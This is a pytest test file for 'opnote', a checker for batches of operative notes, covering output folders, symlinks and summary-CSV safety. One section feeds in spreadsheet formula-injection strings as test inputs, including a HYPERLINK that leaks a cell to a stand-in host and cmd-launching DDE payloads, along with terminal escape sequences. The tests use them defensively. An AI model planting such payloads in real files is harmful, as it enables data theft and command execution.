"""Batches that never lose a note: every input accounted for once, nothing overwritten, nothing
injected into a spreadsheet or a terminal (issue 14).

Most tests run ``opnote check`` in this process with the session's pipeline (CliRunner); the ones
that need real file permissions run it as a subprocess without root's file-access capabilities.
"""

from __future__ import annotations

import csv
import ctypes
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from opnote.outdir import MANIFEST, MAX_STEM_BYTES, read_manifest

from notes import READY_NOTE, SECRET, SECRET_NOTE

NOTE = READY_NOTE.read_text(encoding="utf-8")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def notes_dir(path: Path, names: list[str], text: str = NOTE) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    for n in names:
        (path / n).write_text(text, encoding="utf-8")
    return path


def summary(out: Path) -> list[dict[str, str]]:
    with open(out / "summary.csv", newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def files(out: Path) -> list[str]:
    """The output folder's files besides the manifest, checked to be exactly what the manifest lists."""
    names = sorted(p.name for p in out.iterdir() if p.name != MANIFEST)
    assert sorted(read_manifest(out) or []) == names
    return names


def _drop_dac_capabilities() -> None:  # runs in the child, before exec
    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            os._exit(77)


def run_unprivileged(args: list[str], **kw) -> subprocess.CompletedProcess:
    """The real command, unable to read or write what file modes forbid (also when the tests run as root)."""
    cmd = [sys.executable, "-m", "opnote", *args]
    if os.geteuid() != 0:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=600, **kw)
    if not sys.platform.startswith("linux"):
        pytest.skip("dropping root's file-access capabilities needs Linux")
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600, preexec_fn=_drop_dac_capabilities, **kw)
    if proc.returncode == 77:
        pytest.skip("cannot drop CAP_DAC_OVERRIDE here")
    return proc


# ------------------------------------------------------------------ outputs never overwrite inputs
@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_out_in_the_notes_folder_is_refused_and_the_notes_are_untouched(run, tmp_path, fmt):
    notes = notes_dir(tmp_path / "notes", ["a.txt", "b.md"])
    before = {p.name: p.read_bytes() for p in notes.iterdir()}
    res = run(notes, "--out", notes, "--format", fmt)
    assert res.exit_code == 2
    assert res.stderr.startswith(f"opnote: error: [E400] --out {notes}: the folder is not empty and was not written by opnote")
    assert len(res.stderr.splitlines()) == 1
    assert {p.name: p.read_bytes() for p in notes.iterdir()} == before


def test_reports_inside_the_notes_folder_are_never_read_as_notes(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt", "b.txt"])
    out = notes / "reports"
    for _ in range(2):  # the rerun finds reports/*.txt under notes/: they are not notes
        res = run(notes, "--out", out)
        assert res.exit_code == 0, res.stderr
        assert files(out) == ["a.txt", "b.txt", "summary.csv"]
        assert [r["file"] for r in summary(out)] == [str(notes / "a.txt"), str(notes / "b.txt")]


def test_an_input_inside_an_earlier_output_folder_is_refused(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt"])
    out = tmp_path / "out"
    assert run(notes, "--out", out).exit_code == 0
    report = out / "a.txt"  # an earlier report, given back as a note
    res = run(report, "--out", out)
    assert res.exit_code == 2
    assert res.stderr == f"opnote: error: [E400] --out {out}: holds an input ({report}); write the reports to another folder\n"
    assert report.read_text(encoding="utf-8").startswith(str(notes / "a.txt"))  # still the earlier report


def test_a_note_named_index_keeps_its_report_beside_the_batch_index(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["index.txt", "Index.md", "summary.txt"])
    out = tmp_path / "out"
    res = run(notes, "--out", out, "--format", "html")
    assert res.exit_code == 0, res.stderr
    # Index.md and index.txt are one name on a case-insensitive file system: both kept apart
    assert files(out) == ["Index_2.html", "index.html", "index_3.html", "summary.csv", "summary.html"]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "opnote batch" in page and 'href="Index_2.html"' in page and 'href="index_3.html"' in page
    assert [r["report"] for r in summary(out)] == ["Index_2.html", "index_3.html", "summary.html"]


def test_a_jsonl_record_named_index_and_long_ids(run, tmp_path):
    long_id = "visit-" + "x" * 300
    lines = [{"id": "index", "text": NOTE}, {"id": long_id, "text": NOTE}, {"id": long_id, "text": NOTE}]
    out = tmp_path / "out"
    res = run("-", "--out", out, "--format", "html", input="".join(json.dumps(x) + "\n" for x in lines))
    assert res.exit_code == 0, res.stderr
    rows = summary(out)
    assert [r["id"] for r in rows] == ["index", long_id, long_id]
    names = [r["report"] for r in rows]
    assert names[0] == "index_2.html"
    assert names[1] != names[2] and all(len(n.encode()) <= MAX_STEM_BYTES + 16 for n in names)
    assert sorted(files(out)) == sorted([*names, "index.html", "summary.csv"])


def test_long_file_names_are_shortened_with_a_stable_hash(run, tmp_path):
    names = [("a" * 222) + ".txt", ("a" * 221) + "b.txt", "short.txt"]  # 226 bytes: legal, but too long with a suffix
    notes = notes_dir(tmp_path / "notes", names)
    out = tmp_path / "out"
    res = run(notes, "--out", out, "--format", "json")
    assert res.exit_code == 0, res.stderr
    rows = summary(out)
    assert len(rows) == 3 and all(r["verdict"] == "ready" for r in rows)
    reports = [r["report"] for r in rows]
    assert reports[2] == "short.json"
    assert reports[0] != reports[1] and all(len(r.encode()) <= 255 and r.startswith("a" * 100) for r in reports[:2])
    again = tmp_path / "again"
    assert run(notes, "--out", again, "--format", "json").exit_code == 0
    assert [r["report"] for r in summary(again)] == reports  # the same names on every run


# ------------------------------------------------------------------ one row per input, whatever happened
def test_every_input_has_one_row_and_skipped_entries_are_errors(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt", "b.txt"])
    os.mkfifo(notes / "fifo.txt")
    (notes / "empty.txt").write_bytes(b"")
    (notes / "sub").mkdir()  # an empty subfolder: nothing to say
    out = tmp_path / "out"
    res = run(notes, tmp_path / "missing.txt", tmp_path / "nothing-*.txt", "--out", out, "--format", "json")
    assert res.exit_code == 2
    rows = summary(out)
    assert [(Path(r["file"]).name, r["error"][:6]) for r in rows] == [
        ("a.txt", ""), ("b.txt", ""), ("empty.txt", "[E101]"), ("fifo.txt", "[E105]"),
        ("missing.txt", "[E105]"), ("nothing-*.txt", "[E106]"),
    ]
    assert "opnote: 4 of 6 note(s) could not be checked:" in res.stderr
    assert f"[E105] {notes / 'fifo.txt'}: a FIFO, not a note file; skipped" in res.stderr


@pytest.mark.slow
def test_an_unreadable_subfolder_is_listed_and_counted(tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt"])
    locked = notes_dir(notes / "locked", ["b.txt"])
    locked.chmod(0)
    out = tmp_path / "out"
    try:
        proc = run_unprivileged(["check", str(notes), "--out", str(out), "--format", "json"])
    finally:
        locked.chmod(0o755)
    assert proc.returncode == 2, proc.stderr
    assert f"opnote: error: [E105] {locked}: cannot list the folder (permission denied)" in proc.stderr.splitlines()
    rows = summary(out)
    assert [(r["file"], r["error"][:6]) for r in rows] == [(str(notes / "a.txt"), ""), (str(locked), "[E105]")]


# ------------------------------------------------------------------ an output folder belongs to one run
def test_a_rerun_replaces_its_own_earlier_outputs(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt", "b.txt"])
    out = tmp_path / "out"
    assert run(notes, "--out", out, "--format", "html").exit_code == 0
    assert files(out) == ["a.html", "b.html", "index.html", "summary.csv"]
    (notes / "a.txt").write_bytes(b"")  # a is now unreadable: its old READY report must not stay
    (notes / "b.txt").unlink()
    (notes / "c.txt").write_text(NOTE, encoding="utf-8")
    res = run(notes, "--out", out, "--format", "json")
    assert res.exit_code == 2
    assert files(out) == ["c.json", "summary.csv"]
    assert [(Path(r["file"]).name, r["report"], r["error"][:6]) for r in summary(out)] == [("a.txt", "", "[E101]"), ("c.txt", "c.json", "")]
    assert (out / MANIFEST).read_text(encoding="utf-8").endswith('{"complete": true}\n')


def test_files_another_program_added_are_kept_and_never_overwritten(run, tmp_path):
    notes = notes_dir(tmp_path / "notes", ["a.txt"])
    out = tmp_path / "out"
    assert run(notes, "--out", out, "--format", "json").exit_code == 0
    (out / "a.json").write_text("mine", encoding="utf-8")  # replaces the report: no longer opnote's...
    (out / "notes-to-self.md").write_text("mine too", encoding="utf-8")
    assert run(notes, "--out", out, "--format", "json").exit_code == 0
    # ...but a listed name: the rerun removes it. An unlisted file stays, and its name is avoided.
    assert (out / "notes-to-self.md").read_text(encoding="utf-8") == "mine too"
    notes_dir(notes, ["notes-to-self.txt"])
    assert run(notes, "--out", out, "--format", "markdown").exit_code == 0
    assert (out / "notes-to-self.md").read_text(encoding="utf-8") == "mine too"
    assert (out / "notes-to-self_2.md").read_text(encoding="utf-8").startswith("#")
    assert "notes-to-self.md" not in read_manifest(out)


@pytest.mark.parametrize("setup, why", [
    (lambda p: p.write_text("x"), "is a file, not a folder"),
    (lambda p: (p.parent / "file").write_text("x"), "cannot create the folder (a parent is a file)"),
    (lambda p: (p.mkdir(), (p / "x.pdf").write_text("x")), "the folder is not empty and was not written by opnote"),
])
def test_output_folder_problems_are_usage_errors_naming_the_folder(run, tmp_path, setup, why):
    out = tmp_path / "out"
    setup(out)
    if "parent" in why:
        out = tmp_path / "file" / "out"
    res = run(READY_NOTE, "--out", out)
    assert res.exit_code == 2
    assert res.stderr.startswith(f"opnote: error: [E400] --out {out}: {why}")
    assert len(res.stderr.splitlines()) == 1 and "Traceback" not in res.stderr


@pytest.mark.slow
def test_a_read_only_output_folder_is_a_usage_error(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        proc = run_unprivileged(["check", str(READY_NOTE), "--out", str(out)])
        missing = run_unprivileged(["check", str(READY_NOTE), "--out", str(out / "new")])
    finally:
        out.chmod(0o755)
    assert proc.returncode == 2 and proc.stderr == f"opnote: error: [E400] --out {out}: cannot write to the folder (permission denied)\n"
    assert missing.returncode == 2 and missing.stderr == f"opnote: error: [E400] --out {out / 'new'}: cannot create the folder (permission denied)\n"


def test_two_runs_cannot_write_to_one_folder_at_once(run, tmp_path):
    from opnote.outdir import OutputFolder

    out = tmp_path / "out"
    held = OutputFolder.open(out)
    try:
        res = run(READY_NOTE, "--out", out)
    finally:
        held.close(complete=False)
    assert res.exit_code == 2 and "another opnote run is writing to this folder" in res.stderr
    assert run(READY_NOTE, "--out", out).exit_code == 0


# ------------------------------------------------------------------ spreadsheets and terminals
HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "\tindent", "\rreturn"]


def test_summary_csv_cells_never_start_a_formula(run, tmp_path, monkeypatch):
    names = ["=HYPERLINK(1)", "@SUM(1+1)", "+cmd|' -C calc'!A0", "-2+3"]
    for i, name in enumerate(names):
        (tmp_path / f"{name}.txt").write_text(NOTE if i % 2 else "", encoding="utf-8")
    monkeypatch.chdir(tmp_path)  # relative paths: the file column starts with the name
    out = tmp_path / "out"
    res = run("--out", out, "--format", "json", "--", *[f"{n}.txt" for n in names])
    assert res.exit_code == 2
    assert [r["file"] for r in summary(out)] == [f"'{n}.txt" for n in names]
    lines = [{"id": x, "text": NOTE} for x in HOSTILE] + [{"id": x, "text": ""} for x in HOSTILE]
    out2 = tmp_path / "out2"
    assert run("-", "--out", out2, input="".join(json.dumps(x) + "\n" for x in lines)).exit_code == 2
    for folder in (out, out2):
        rows = summary(folder)
        cells = [c for r in rows for c in r.values()]
        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # the text is kept, behind a quote that spreadsheets show as text; control characters escaped
    ids = [r["id"] for r in summary(out2)]
    assert ids[:6] == ["'" + x for x in HOSTILE[:4]] + ["\\tindent", "\\rreturn"]
    assert len(ids) == 12


ESCAPES = "evil\x1b]0;owned\x07\x1b[2J\nopnote: all notes ready\u202e"


def test_ids_and_names_reach_the_terminal_escaped(run, tmp_path):
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / f"{ESCAPES}.txt").write_bytes(b"")
    res = run(notes)
    lines = [{"id": ESCAPES, "text": ""}, {"id": ESCAPES, "text": NOTE, "icd10": ["BAD"]}, {"id": ESCAPES, "text": NOTE}]
    stream = run("-", "--format", "jsonl", input="".join(json.dumps(x) + "\n" for x in lines))
    text = run("-", "--format", "text", input="".join(json.dumps(x) + "\n" for x in lines))
    for r in (res, stream, text):
        assert r.exit_code == 2
        for ch in ("\x1b", "\x07", "\u202e"):
            assert ch not in r.stderr
        assert "evil\\x1b]0;owned\\x07\\x1b[2J\\nopnote: all notes ready\\u202e" in r.stderr
        assert all(line.startswith(("opnote: ", "  ")) for line in r.stderr.splitlines())
    for ch in ("\x1b", "\x07", "\u202e"):  # the text report's header names the note too
        assert ch not in text.stdout
    # the JSON-lines stream keeps the id exactly (JSON escapes it)
    recs = [json.loads(x) for x in stream.stdout.splitlines()]
    assert [r["id"] for r in recs] == [ESCAPES] * 3


# ------------------------------------------------------------------ symbolic links
def test_links_out_of_the_folder_are_not_followed_unless_asked(run, tmp_path):
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET_NOTE, encoding="utf-8")
    notes = notes_dir(tmp_path / "notes", ["a.txt"])
    (notes / "inside.txt").symlink_to(notes / "a.txt")
    (notes / "outside.txt").symlink_to(secret)
    (notes / "folder").symlink_to(secret.parent, target_is_directory=True)
    out = tmp_path / "out"
    res = run(notes, "--out", out, "--format", "html")
    assert res.exit_code == 2
    assert SECRET not in "".join(p.read_text(encoding="utf-8") for p in out.iterdir())
    rows = {Path(r["file"]).name: r for r in summary(out)}
    assert rows["inside.txt"]["verdict"] == "ready"
    assert rows["outside.txt"]["error"] == f"[E105] {notes / 'outside.txt'}: symbolic link to a file outside {notes}, not followed (--follow-symlinks follows it)"
    assert rows["folder"]["error"].startswith(f"[E105] {notes / 'folder'}: symbolic link to a folder outside {notes}, not followed")
    followed = run(notes, "--out", tmp_path / "out2", "--format", "html", "--follow-symlinks")
    assert followed.exit_code == 0, followed.stderr
    assert [Path(r["file"]).name for r in summary(tmp_path / "out2")] == ["a.txt", "inside.txt", "outside.txt", "secret.txt"]


def test_a_link_named_on_the_command_line_is_followed(run, tmp_path):
    link = tmp_path / "link.txt"
    link.symlink_to(READY_NOTE)
    assert run(link, "--format", "json").exit_code == 0


# ------------------------------------------------------------------ JSON lines: ids as given, bad bytes
def test_jsonl_reports_echo_the_id_exactly(run):
    ids = [12, "12", None, 1.5, True, {"mrn": "007"}, [1, "a"]]
    lines = "".join(json.dumps({"id": i, "text": NOTE}) + "\n" for i in ids) + json.dumps({"text": NOTE}) + "\n"
    res = run("-", "--format", "jsonl", input=lines)
    assert res.exit_code == 0, res.stderr
    recs = [json.loads(x) for x in res.stdout.splitlines()]
    assert [(r["id"], r["line"]) for r in recs] == [(i, n) for n, i in enumerate([*ids, None], 1)]
    assert [type(r["id"]) for r in recs[:2]] == [int, str]
    assert [r["source"] for r in recs] == ["12", "12", "3", "1.5", "true", '{"mrn": "007"}', '[1, "a"]', "8"]


def test_invalid_utf8_in_a_json_line_is_an_error_for_that_line(run):
    good = json.dumps({"id": "a", "text": NOTE}).encode()
    bad = json.dumps({"id": "b", "text": "Right femur \udcff"}).encode().replace(b"\\udcff", b"\xff\xfe")
    res = run("-", "--format", "jsonl", input=good + b"\n" + bad + b"\n" + good.replace(b'"a"', b'"c"') + b"\n")
    assert res.exit_code == 2
    recs = [json.loads(x) for x in res.stdout.splitlines()]
    assert [r.get("verdict") for r in recs] == ["ready", None, "ready"]
    assert recs[1]["id"] == "b" and recs[1]["line"] == 2 and recs[1]["error"]["code"] == "E103"
    assert "not valid UTF-8 (invalid byte at offset" in recs[1]["error"]["message"]


def test_a_json_line_over_the_limit_is_skipped_unread(run):
    lines = [json.dumps({"id": "big", "text": "x" * 20_000}), json.dumps({"id": "ok", "text": NOTE})]
    huge = "y" * 130_000  # longer than 6 x --max-bytes + 64 KiB: not read at all
    res = run("-", "--format", "jsonl", "--max-bytes", "10000", input="\n".join([*lines, huge, lines[1]]) + "\n")
    recs = [json.loads(x) for x in res.stdout.splitlines()]
    assert [(r["line"], r.get("error", {}).get("code")) for r in recs] == [(1, "E104"), (2, None), (3, "E104"), (4, None)]
    assert recs[0]["error"]["message"] == "big: 20000 bytes is over the limit of 10000 bytes (--max-bytes)"
    assert recs[2]["error"]["message"] == "<stdin>:3: line longer than 125536 bytes (6 × --max-bytes + 64 KiB), not read"


def test_a_summary_csv_opnote_did_not_write_is_never_replaced(run, tmp_path):
    out = tmp_path / "out"
    assert run(READY_NOTE, "--out", out).exit_code == 0
    (out / "summary.csv").unlink()
    (out / "Summary.CSV").write_text("my spreadsheet", encoding="utf-8")  # not listed in the manifest
    res = run(READY_NOTE, "--out", out)
    assert res.exit_code == 2
    assert res.stderr == f"opnote: error: [E400] --out {out}: holds a Summary.CSV that opnote did not write; move it away or use another folder\n"
    assert (out / "Summary.CSV").read_text(encoding="utf-8") == "my spreadsheet"


def test_summary_csv_says_why_what_case_and_what_is_at_stake(run, tmp_path, sample_dir):
    """A coder sorting a worklist reads the reason, the case line, the advisories and the fee at
    stake from summary.csv, without opening each report."""
    dev = sample_dir / "dev"
    ready = dev / "b2_left_distal_femur_osteosarcoma_dictation_frozen_sexton.txt"
    # an amputation in 2026, the year whose fee schedule opnote carries
    amputation = tmp_path / "amputation.txt"
    amputation.write_text((dev / "right_distal_femur_osteosarcoma_above_knee_amputation.txt").read_text(encoding="utf-8").replace("12/15/2025", "01/15/2026"), encoding="utf-8")
    out = tmp_path / "out"
    res = run(ready, amputation, "--out", out, "--format", "json")
    assert res.exit_code == 1, res.stderr
    with open(out / "summary.csv", newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        header = reader.fieldnames
        rows = {Path(r["file"]).name: r for r in reader}
    from opnote import rules

    items = [it.id for it in rules.checklist("27365").items]
    assert header[header.index("verdict_reason") + 1:][:len(items)] == items  # the item columns come from the checklist
    ok, amp = rows[ready.name], rows[amputation.name]
    assert ok["verdict"] == "ready" and ok["verdict_reason"] == "ready" and ok["amount_at_stake"] == ""
    assert ok["case"].startswith("Left distal femur")
    assert amp["verdict"] == "not_supported" and amp["verdict_reason"] != "ready"
    assert "amputation" in amp["case"].lower()
    assert float(amp["amount_at_stake"]) > 1000  # the 27365 fee the note does not support
    assert "code_selection" in amp["advisories"]
